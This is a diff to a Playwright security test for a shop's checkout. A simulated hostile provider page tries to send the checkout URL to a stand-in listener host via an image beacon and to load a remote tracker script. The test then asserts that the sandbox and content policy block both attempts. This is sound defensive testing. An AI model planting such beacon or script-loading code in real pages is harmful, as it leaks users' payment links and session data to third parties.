@@ -1,13 +1,14 @@
 """What people with bad intentions send, and what becomes of it."""
 
+import socket
 import time
 from collections.abc import Callable, Mapping
 
 import pytest
-from playwright.sync_api import Route
+from playwright.sync_api import Route, expect
 
 from support import tokens
-from support.screens import DESKTOP, PHONE, Device, Screen, new_address
+from support.screens import DESKTOP, PHONE, WAIT_MS, Device, Screen, new_address
 from support.service import HTML
 from support.shop import Fault, Reply, Shop, send, trades_made
 
@@ -81,17 +82,39 @@ class TestAProvidersPageThatReachesOut:
             await attempt('api', async () => (await fetch('PAYMENT', {credentials: 'include'})).status);
             await attempt('repay', async () => (await fetch('REPAY', {method: 'POST', body: '{}',
                 headers: {'Content-Type': 'application/json'}})).status);
+            // The link itself is nobody else's to hear of.
+            await attempt('picture', () => new Promise((sent, held) => {
+                const picture = new Image();
+                [picture.onload, picture.onerror] = [sent, held];
+                picture.src = 'LISTENER/?' + encodeURIComponent(location.href);
+            }));
+            await attempt('script', () => new Promise((sent, held) => {
+                const script = document.createElement('script');
+                [script.onload, script.onerror] = [sent, held];
+                script.src = 'LISTENER/tracker.js';
+                document.head.append(script);
+            }));
             window.tried = tried;
+            document.title = 'tried';
         })();
         </script>"""
 
     @pytest.mark.parametrize("device", [DESKTOP, PHONE], ids=lambda device: device.name)
     def test_it_gets_at_nothing_of_ours(self, shop: Shop, show: Callable[[Device], Screen], device: Device) -> None:
-        screen = show(device)
+        with socket.create_server(("127.0.0.1", 0)) as listener:
+            listener.setblocking(False)
+            self._let_it_try(shop, show(device), f"http://127.0.0.1:{listener.getsockname()[1]}")
+            with pytest.raises(BlockingIOError):  # Nobody has called.
+                listener.accept()
+
+    def _let_it_try(self, shop: Shop, screen: Screen, listener: str) -> None:
+        # What the policy holds back is counted as a request by the browser's own books.
+        screen.watch.allow_origin(listener)
         screen.watch.expect("CORS|Content Security Policy|policy violation|sandbox|ERR_FAILED|Failed to load|failed:")
         payment = shop.pay()
         path = payment.checkout_url.removeprefix(shop.origin)
         document = self.HOSTILE.replace("PAYMENT", f"{path}/payment").replace("REPAY", f"{path}/repay")
+        document = document.replace("LISTENER", listener)
 
         def take_the_providers_place(route: Route) -> None:
             """The body is the provider's; the headers are ours, as they were sent."""
@@ -102,7 +125,7 @@ class TestAProvidersPageThatReachesOut:
         screen.see("ready")
 
         opened = _open(screen)
-        opened.page.wait_for_function("window.tried")
+        expect(opened.page).to_have_title("tried", timeout=WAIT_MS)
         tried = opened.page.evaluate("window.tried")
 
         assert tried.pop("origin") == "null"
